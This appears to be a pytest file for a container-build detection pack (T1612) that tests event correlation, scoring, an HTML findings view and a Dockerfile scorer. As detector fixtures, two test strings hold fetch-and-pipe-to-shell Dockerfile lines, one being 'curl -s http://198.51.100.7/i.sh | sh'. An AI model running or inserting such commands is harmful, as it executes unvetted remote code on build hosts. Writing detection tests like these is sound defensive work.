"""The other scripts of the pack: correlation, the transformer, Dockerfiles."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from .conftest import Run
from .events import ALL, ALLOWED, BUILD, EGRESS, QUIET, UNKNOWN


def test_correlate_takes_the_kind_and_the_least_score(run: Run) -> None:
    score = run("T1612Correlate", events=ALL).context("T1612.Chain")[0]["Score"]
    above = run("T1612Correlate", events=ALL, min_score=score + 1)
    assert above.context("T1612.Chain") is None
    assert "0 of 0 chains" in run("T1612Correlate", events=ALL, event_type="file").readable


def test_a_lone_alert_is_no_chain(run: Run) -> None:
    outcome = run("T1612ScoreEvents", events=[BUILD, QUIET])

    assert outcome.context("T1612.Chain") is None
    summary = outcome.context("T1612.Summary")
    assert (summary["Chains"], summary["Verdict"], summary["ChainVerdict"]) == (0, "suspicious", "")


def test_correlate_takes_what_its_sibling_takes(run: Run) -> None:
    lists = {"t1612": ALLOWED}
    told = run("T1612Correlate", events=ALL).context("T1612.Chain")[0]
    spared = run("T1612Correlate", events=ALL, allowlist="t1612", lists=lists)
    both = run("T1612ScoreEvents", events=ALL, allowlist="t1612", lists=lists)

    assert spared.context("T1612.Chain") == both.context("T1612.Chain") != [told]
    for args, said in (
        ({"allowlist": "none"}, "T1612Correlate: allowlist: there is no list 'none': Item not"),
        ({"allowlist": "t1612"}, "T1612Correlate: allowlist"),
        ({"schema": "xdr"}, "T1612Correlate: schema is 'xdr'; it is one of auto, "),
    ):
        assert said in run("T1612Correlate", events=ALL, lists={"t1612": "x"}, **args).error


def test_the_transformer_gives_the_score_of_each_event(run: Run) -> None:
    events = [BUILD, None, UNKNOWN, {"a": 1}, QUIET, 7, EGRESS]

    assert run("T1612Score", value=events).answers == [[4, -1, -1, -1, 0, -1, 2]]
    assert run("T1612Score", value=json.dumps(events)).answers == [[4, -1, -1, -1, 0, -1, 2]]


@pytest.mark.parametrize(
    ("value", "score"), [(BUILD, 4), (json.dumps(EGRESS), 2), ([QUIET], 0)], ids=str
)
def test_the_transformer(run: Run, value: Any, score: int) -> None:
    assert run("T1612Score", value=value).answers == [score]


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("x", "is no JSON"),
        ({"a": 1}, "none of 1 events can be scored; the first: event is not recognised"),
        (7, "none of 1 events can be scored; the first: event is int"),
        ([None, 7], "none of 2 events can be scored; the first: event is NoneType"),
        (UNKNOWN, "none of 1 events can be scored; the first: event is of a kind that"),
    ],
)
def test_the_transformer_says_what_is_wrong(run: Run, value: Any, said: str) -> None:
    assert said in run("T1612Score", value=value).error


def test_what_cannot_be_scored_has_a_default(run: Run) -> None:
    events = [BUILD, None, {"a": 1}]
    assert run("T1612Score", value=events, default="0").answers == [[4, "0", "0"]]
    assert run("T1612Score", value=events[::-1], default="0").answers == [["0", "0", 4]]
    assert run("T1612Score", value={"a": 1}, default="none").answers == ["none"]
    for nothing in (None, ""):
        assert run("T1612Score", value=nothing).answers == [-1]
        assert run("T1612Score", value=nothing, default="0").answers == ["0"]
    assert run("T1612Score", value=[]).answers == [[]]


def test_what_was_scored_is_shown_in_a_layout(run: Run) -> None:
    told = run("T1612ScoreEvents", events=ALL)
    keys = ("Summary", "Finding", "Chain")
    held = {key: told.context(f"T1612.{key}") for key in keys}
    (entry,) = run("T1612ShowFindings", context={"T1612": held}).entries

    assert (entry["Type"], entry["ContentsFormat"]) == (1, "html")
    assert f"<td>{held['Finding'][0]['Detail']}</td>" in entry["Contents"]
    assert "<td>build-then-deploy</td>" in entry["Contents"]
    (entry,) = run("T1612ShowFindings").entries
    assert "No events have been scored here yet" in entry["Contents"]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (gzip.compress(b"FROM a"), "entry_id is packed with gzip"),
        (b"FROM a\0", "the Dockerfile is empty, or no text"),
        (b"FROM \xff\xfe", "entry_id is no text in UTF-8"),
        (b" \n", "the Dockerfile is empty"),
        (b"FROM a\n" * 200_000, "the Dockerfile is longer than 1,048,576 bytes"),
        (b"<html><body>Sign in</body></html>", "no instruction of a Dockerfile stands in it"),
        (b"FROM a\\nRUN curl x | sh", "one line, with its line ends spelled as \\n"),
    ],
    ids=["gzip", "binary", "latin", "empty", "long", "page", "spelled"],
)
def test_what_is_no_dockerfile_is_an_error(
    run: Run, tmp_path: Path, data: bytes, said: str
) -> None:
    (tmp_path / "x").write_bytes(data)
    files = {"7@1": tmp_path / "x"}

    assert said in run("T1612ScoreDockerfile", files=files, entry_id="7@1").error


def test_a_dockerfile(run: Run, tmp_path: Path) -> None:
    content = "FROM alpine\nRUN curl -s http://198.51.100.7/i.sh | sh\n"
    (tmp_path / "x").write_text(content)
    for args in ({"content": content}, {"entry_id": "7@1", "files": {"7@1": tmp_path / "x"}}):
        found = run("T1612ScoreDockerfile", **args).context("T1612.Dockerfile")  # type: ignore[arg-type]
        assert (found["IsFinding"], found["Evidence"][0]["Line"]) == (True, 2)
        assert found["Signals"] == ["dockerfile.unprotected_run", "dockerfile.address_source"]
    assert "give either content or one entry_id" in run("T1612ScoreDockerfile").error
    assert "content is list; it is a text" in run("T1612ScoreDockerfile", content=[content]).error
